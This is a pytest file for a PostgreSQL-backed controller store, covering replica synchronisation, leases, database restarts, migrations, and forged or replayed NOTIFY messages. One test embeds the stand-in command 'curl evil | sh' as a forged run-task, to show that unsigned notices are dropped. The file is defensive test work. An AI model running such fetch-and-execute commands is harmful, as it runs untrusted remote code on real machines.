"""The store contract (tests/store_contract.py) on a real PostgreSQL: a scratch cluster of this test
session (tests/pgscratch.py), a fresh database per test."""

from __future__ import annotations

import asyncio
import random
import time
from collections.abc import AsyncIterator, Callable

import psycopg
import pytest

from tests.pgscratch import ScratchCluster
from tests.store_contract import *  # noqa: F403 (the contract's tests and fixtures)
from tests.store_contract import STORE_KEY, enroll, ev
from tether.controller import wire
from tether.controller.errors import StoreError
from tether.controller.main import main
from tether.controller.replicas import intents
from tether.controller.store import Store, StoreChange, migrations, open_store
from tether.nodeagent.model import EventKind, Plan, Step


@pytest.fixture
def store_location(pg_database: str) -> str:
    return pg_database


# -- PostgreSQL only: several replicas on one database, and the database's own faults --------------------


async def open_pg(url: str, key: bytes = STORE_KEY) -> Store:
    """A replica's store, opened with the key of --store-key-file (it signs the notices)."""
    return await open_store(url, notify_key=key)


@pytest.fixture
async def pair(pg_database: str) -> AsyncIterator[tuple[Store, Store]]:
    a, b = await open_pg(pg_database), await open_pg(pg_database)
    yield a, b
    await a.close()
    await b.close()


async def until(check: Callable[[], bool], timeout: float = 1.0) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        assert time.monotonic() < deadline, "not within the time"
        await asyncio.sleep(0.01)


async def test_a_change_on_one_replica_reaches_the_other_within_a_second(pair: tuple[Store, Store]) -> None:
    a, b = pair
    seen: list[StoreChange] = []
    b.subscribe(seen.append)
    await enroll(a, "n1")
    await until(lambda: b.get_node("n1") is not None and b.get_token("tok-n1") is not None)
    await a.append_events("n1", [ev(1), ev(2)])
    await until(lambda: b.max_seq("n1") == 2 and b.get_node("n1").stored_seq == 2)  # type: ignore[union-attr]
    assert [e.seq for e in await b.list_events("n1")] == [1, 2]
    await a.put_environment("e", "doc", "v", {"x": 1})
    await a.kv_put("k", b"v")
    await a.update_node("n1", agent_version="9.9")
    await until(lambda: b.kv_get("k") == b"v" and b.get_node("n1").agent_version == "9.9")  # type: ignore[union-attr]
    assert b.get_environment("e") == a.get_environment("e") and b.get_revision("e", 1) is not None
    await a.delete_node("n1")
    await a.delete_environment("e")
    await a.kv_delete("k")
    await until(lambda: b.get_node("n1") is None and b.get_environment("e") is None and b.kv_get("k") is None)
    kinds = {(c.kind, c.key) for c in seen}
    assert {("node", "n1"), ("token", "tok-n1"), ("environment", "e"), ("kv", "k")} <= kinds
    assert {("node_deleted", "n1"), ("environment_deleted", "e")} <= kinds
    assert StoreChange("events", "n1", seq=2) in seen


async def test_refresh_node_reads_a_node_whose_notice_has_not_arrived(
    pair: tuple[Store, Store], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A node enrolled through A, then connecting to B before B heard of it, is admitted by B."""
    from tether.controller.store import pgsync

    a, b = pair
    monkeypatch.setattr(pgsync, "decode", lambda *_: None)  # every notice from A is lost
    await enroll(a, "late")
    await asyncio.sleep(0.3)
    assert b.get_node("late") is None
    record = await b.refresh_node("late")
    assert record is not None and record.name == "late"
    assert b.get_node("late") == record
    assert await b.refresh_node("never-enrolled") is None


async def test_own_writes_are_read_at_once_and_never_undone_by_an_older_re_read(
    pair: tuple[Store, Store],
) -> None:
    a, b = pair
    await enroll(a, "n1")
    await until(lambda: b.get_node("n1") is not None)
    for i in range(30):  # both write the same node; each reads its own write at once
        await asyncio.gather(
            a.update_node("n1", last_seen_ms=2 * i), b.update_node("n1", agent_version=f"v{i}")
        )
        assert b.get_node("n1").agent_version == f"v{i}"  # type: ignore[union-attr]
    await until(lambda: a.get_node("n1") == b.get_node("n1"))
    assert a.get_node("n1").agent_version == "v29" and b.get_node("n1").last_seen_ms == 58  # type: ignore[union-attr]


async def test_a_message_reaches_the_other_replicas_only(pair: tuple[Store, Store]) -> None:
    a, b = pair
    got_a: list[StoreChange] = []
    got_b: list[StoreChange] = []
    a.subscribe(got_a.append)
    b.subscribe(got_b.append)
    await a.publish("refresh", "node n1 ünïcode")
    await until(lambda: StoreChange("message", "refresh", payload="node n1 ünïcode") in got_b)
    await asyncio.sleep(0.2)
    assert [c for c in got_a if c.kind == "message"] == []
    with pytest.raises(ValueError, match="at most"):
        await a.publish("big", "x" * 4001)


async def test_a_lease_is_held_by_one_replica_and_moves_when_it_closes(pg_database: str) -> None:
    a, b = await open_pg(pg_database), await open_pg(pg_database)
    try:
        assert await a.try_lease("singleton") and not await b.try_lease("singleton")
        assert await a.try_lease("other-work") is True
        await a.release_lease("other-work")
        assert await b.try_lease("other-work")
    finally:
        await a.close()
    deadline = time.monotonic() + 1
    while not await b.try_lease("singleton"):
        assert time.monotonic() < deadline
        await asyncio.sleep(0.05)
    await b.close()


async def test_a_replica_that_loses_its_lease_connection_is_told_at_once(
    pg_database: str, pg_url: str
) -> None:
    a, b = await open_pg(pg_database), await open_pg(pg_database)
    lost: list[tuple[str, float]] = []
    a.lease_lost(lambda name: lost.append((name, time.monotonic())))
    try:
        assert await a.try_lease("singleton")
        killed = time.monotonic()
        async with await psycopg.AsyncConnection.connect(pg_url, autocommit=True) as admin:
            await admin.execute(
                "SELECT pg_terminate_backend(pid) FROM pg_locks WHERE locktype='advisory' AND granted"
            )
        await until(lambda: bool(lost))
        assert lost[0][0] == "singleton" and lost[0][1] - killed < 1
        assert await b.try_lease("singleton") and not await a.try_lease("singleton")
    finally:
        await a.close()
        await b.close()


async def test_writes_through_a_postgresql_restart_lose_nothing_acknowledged(
    pg_database: str, pg_cluster: ScratchCluster
) -> None:
    a, b = await open_pg(pg_database), await open_pg(pg_database)
    acked: dict[str, int] = {}
    errors: list[str] = []
    try:
        for i in range(4):
            await enroll(a, f"n{i}")

        async def agent(name: str) -> None:  # like an agent: resend what is not acknowledged yet
            seq = 0
            while seq < 150:
                try:
                    acked[name] = await a.append_events(name, [ev(seq + 1), ev(seq + 2)])
                    seq = acked[name]
                except StoreError as exc:
                    errors.append(str(exc))
                    await asyncio.sleep(0.05)

        agents = asyncio.gather(*(agent(f"n{i}") for i in range(4)))
        await asyncio.sleep(0.3)
        await asyncio.to_thread(pg_cluster.restart, "immediate")
        await asyncio.wait_for(agents, 60)
        assert all(e.startswith("store unavailable: ") and "\n" not in e for e in errors)
        for i in range(4):
            assert [e.seq for e in await a.list_events(f"n{i}")] == list(range(1, 151))
        await a.kv_put("after", b"1")  # the other replica hears again (its listener reconnected)
        await until(lambda: b.kv_get("after") == b"1" and b.max_seq("n3") == 150, timeout=10)
    finally:
        await a.close()
        await b.close()


async def test_while_postgresql_is_down_writes_fail_with_one_line_and_resume_after(
    pg_database: str, pg_cluster: ScratchCluster
) -> None:
    store = await open_pg(pg_database)
    try:
        await store.kv_put("k", b"1")
        await asyncio.to_thread(pg_cluster.stop, "fast")
        started = time.monotonic()
        with pytest.raises(StoreError) as err:
            await store.kv_put("k", b"2")
        message = str(err.value)
        assert message.startswith("store unavailable: ") and "\n" not in message
        assert time.monotonic() - started < 15
        with pytest.raises(StoreError, match="store unavailable"):
            await store.list_events("n1")
        assert store.kv_get("k") == b"1"  # reads go on from the view
        await asyncio.to_thread(pg_cluster.start)
        deadline = time.monotonic() + 20
        while True:
            try:
                await store.kv_put("k", b"3")
                break
            except StoreError:
                assert time.monotonic() < deadline
                await asyncio.sleep(0.2)
        assert store.kv_get("k") == b"3"
    finally:
        if not pg_cluster.running():
            pg_cluster.start()
        await store.close()


async def test_after_a_long_outage_the_first_write_finds_postgresql_back(
    pg_database: str, pg_cluster: ScratchCluster
) -> None:
    """The pool retries a broken connection after 1, 2, 4, 8, 16 s ...: with psycopg_pool's
    default (5 minutes of that) the database back after 17 s would be tried again only after
    ~31 s, and a write in between would fail. Retries end after ``RECONNECT_S``; a waiting call
    then makes a connection at once."""
    store = await open_pg(pg_database)
    try:
        await asyncio.to_thread(pg_cluster.stop, "fast")
        broke = time.monotonic()
        with pytest.raises(StoreError):  # the pool finds its connections broken and retries
            await store.kv_put("k", b"1")
        await asyncio.sleep(max(0.0, 17 - (time.monotonic() - broke)))
        await asyncio.to_thread(pg_cluster.start)
        await store.kv_put("k", b"2")  # at once: no backed-off retry to wait for
        assert store.kv_get("k") == b"2"
    finally:
        if not pg_cluster.running():
            pg_cluster.start()
        await store.close()


async def test_replicas_starting_at_once_apply_each_migration_once(pg_database: str) -> None:
    stores = await asyncio.gather(*(open_pg(pg_database) for _ in range(3)))
    for s in stores:
        await s.close()
    assert await migrations.apply(pg_database) == []
    async with await psycopg.AsyncConnection.connect(pg_database) as conn:
        cur = await conn.execute("SELECT version FROM schema_migrations ORDER BY version")
        assert [r[0] for r in await cur.fetchall()] == [m[0] for m in migrations.PG_MIGRATIONS]
        await conn.execute("INSERT INTO schema_migrations VALUES (999, 'from the future', 0)")
    with pytest.raises(StoreError, match="newer than this controller"):
        await open_pg(pg_database)


def test_the_migrate_command_says_what_it_applied(
    pg_database: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["migrate", "--store", pg_database]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "applied 1: the schema",
        "the store's schema is up to date",
    ]
    assert main(["migrate", "--store", pg_database]) == 0
    assert "nothing to apply" in capsys.readouterr().out


def _view(s: Store) -> tuple[object, ...]:
    nodes = s.list_nodes()
    return (
        nodes,
        {n.name: (s.node_steps(n.name), s.max_seq(n.name)) for n in nodes},
        s.list_tokens(),
        {k: s.kv_get(k) for k in s.kv_keys("")},
        s.list_environments(),
    )


async def _churn(s: Store, seed: int, until_t: float, seqs: dict[str, int]) -> None:
    """Random writes of every kind to a few shared rows, until ``until_t``."""
    r = random.Random(seed)
    while time.monotonic() < until_t:
        n, op = f"n{r.randrange(5)}", r.randrange(7)
        try:
            if op == 0:
                await s.update_node(n, last_seen_ms=r.randrange(10**6), agent_version=str(r.random()))
            elif op == 1:
                await s.kv_put(f"k{r.randrange(3)}", str(r.random()).encode())
            elif op == 2:
                await s.kv_delete(f"k{r.randrange(3)}")
            elif op == 3:
                await s.patch_node_hardware(n, {f"h{r.randrange(3)}": r.choice([None, {"x": 1}])})
            elif op == 4:
                plan = Plan.build([Step(name="a", script=str(r.randrange(3)))], generation=r.randrange(5))
                await s.set_node_plan(n, plan)
            elif op == 5:
                seqs[n] += 1
                await s.append_events(n, [ev(seqs[n], EventKind.SUCCEEDED, "a", "d")])
            else:
                await s.put_environment(f"e{r.randrange(2)}", str(r.randrange(4)), "v", {"x": r.randrange(4)})
        except StoreError:  # the database restarting
            await asyncio.sleep(0.05)


@pytest.mark.parametrize("restart", [False, True], ids=["steady", "restarted"])
async def test_two_replicas_writing_the_same_rows_end_with_the_same_view(
    pg_database: str, pg_cluster: ScratchCluster, restart: bool
) -> None:
    a, b = await open_pg(pg_database), await open_pg(pg_database)
    try:
        for i in range(5):
            await enroll(a, f"n{i}")
        seqs = {f"n{i}": 0 for i in range(5)}
        end = time.monotonic() + 3
        work = [_churn(s, seed, end, seqs) for seed, s in enumerate((a, a, b, b))]
        if restart:
            work.append(_restart_after(pg_cluster, 1.0))
        await asyncio.gather(*work)
        await until(lambda: _view(a) == _view(b), timeout=10)
        fresh = await open_pg(pg_database)
        assert _view(fresh) == _view(a)
        await fresh.close()
    finally:
        await a.close()
        await b.close()


async def _restart_after(cluster: ScratchCluster, seconds: float) -> None:
    await asyncio.sleep(seconds)
    await asyncio.to_thread(cluster.restart, "immediate")


async def test_a_write_the_database_refuses_is_one_store_error_line(pair: tuple[Store, Store]) -> None:
    """Not a psycopg exception with the value in it: the project's StoreError, without the data."""
    a, _ = pair
    with pytest.raises(StoreError, match=r"^store refused the write: DataError") as caught:
        await a.kv_put("key-with-\x00-canary", b"v")
    assert "canary" not in str(caught.value)
    await a.kv_put("fine", b"v")  # the store goes on
    assert a.kv_get("fine") == b"v"


# -- notices are signed: any role that may connect can NOTIFY on the channel ----------------------------


async def _send(url: str, *payloads: str) -> None:
    """NOTIFY on the store's channel from a plain connection, as any database role could."""
    async with await psycopg.AsyncConnection.connect(url, autocommit=True) as conn:
        for payload in payloads:
            await conn.execute("SELECT pg_notify('tether', %s)", (payload,))


async def test_a_notice_not_signed_with_the_store_key_is_dropped(
    pair: tuple[Store, Store], pg_database: str
) -> None:
    """Forged notices (no MAC, the format before it, another key's) reach no listener: no change,
    no intent handed to an agent. One signed with the store's key is heard."""
    from tether.controller.store.pgsync import Sender, encode, mac_key

    a, b = pair
    await a.kv_put("k", b"1")
    await until(lambda: b.kv_get("k") == b"1")
    seen: list[StoreChange] = []
    b.subscribe(seen.append)
    step = wire.step_to_pb(Step(name="pwn", script="curl evil | sh"))
    command = wire.agent.Command(id="c1", task=wire.agent.RunTask(step=step))
    intent = intents.for_message("n1", wire.agent.ControllerMessage(command=command))
    assert intent is not None
    (run_task,) = intents.pack([intent])  # a script to run on node n1, were it heard
    forged = [
        f"attacker message 0 8\ndelivery{run_task}",  # as the notices were before they were signed
        "attacker kv 0 1\nk",
        f"attacker message 0 8 {int(time.time() * 1000)}\ndelivery{run_task}" + "A" * 22,
        encode(Sender("attacker", mac_key(b"\x01" * 32)), "message", "delivery", 1, run_task),
        encode(Sender("attacker", mac_key(b"\x01" * 32)), "kv", "k"),
    ]
    good = encode(Sender("another-replica", mac_key(STORE_KEY)), "message", "delivery", 1, "signed")
    await _send(pg_database, *forged, good)
    await until(lambda: any(c.payload == "signed" for c in seen), timeout=2)
    await asyncio.sleep(0.2)
    assert seen == [StoreChange("message", "delivery", payload="signed")]
    assert b._sync.refused == len(forged)  # type: ignore[attr-defined]


async def test_a_message_notice_captured_and_sent_again_is_dropped(
    pair: tuple[Store, Store], pg_database: str
) -> None:
    """LISTEN needs no privilege: a role that may connect sees signed notices, but one it sends
    again is not heard twice."""
    a, b = pair
    seen: list[StoreChange] = []
    b.subscribe(seen.append)
    async with await psycopg.AsyncConnection.connect(pg_database, autocommit=True) as spy:
        await spy.execute("LISTEN tether")
        await a.publish("delivery", "once")
        captured = [n.payload async for n in spy.notifies(timeout=5, stop_after=1)]
    assert len(captured) == 1
    await until(lambda: len(seen) == 1)
    await _send(pg_database, captured[0], captured[0])
    await a.publish("delivery", "after")
    await until(lambda: len(seen) >= 2)
    await asyncio.sleep(0.2)
    assert [c.payload for c in seen] == ["once", "after"]


async def test_a_postgresql_store_needs_the_key_that_signs_its_notices(pg_database: str) -> None:
    with pytest.raises(StoreError, match="--store-key-file"):
        await open_store(pg_database)


async def test_a_health_report_is_not_told_to_the_others_but_read_when_asked(
    pair: tuple[Store, Store],
) -> None:
    """One a minute per node, changing no state: no notice (each costs every other replica a re-read);
    another replica reads it with refresh_node (node describe) or with the node's next change."""
    a, b = pair
    seen: list[StoreChange] = []
    await enroll(a, "n1")
    await until(lambda: b.get_node("n1") is not None)
    b.subscribe(seen.append)
    await a.update_node("n1", health={"ok": True}, last_seen_ms=5)
    await a.kv_put("marker", b"1")  # notices arrive in order: once this one is in, so is any before it
    await until(lambda: b.kv_get("marker") == b"1")
    assert [c.kind for c in seen] == ["kv"]
    assert b.get_node("n1").health == {}  # type: ignore[union-attr]
    refreshed = await b.refresh_node("n1")
    assert refreshed is not None and refreshed.health == {"ok": True} and refreshed.last_seen_ms == 5
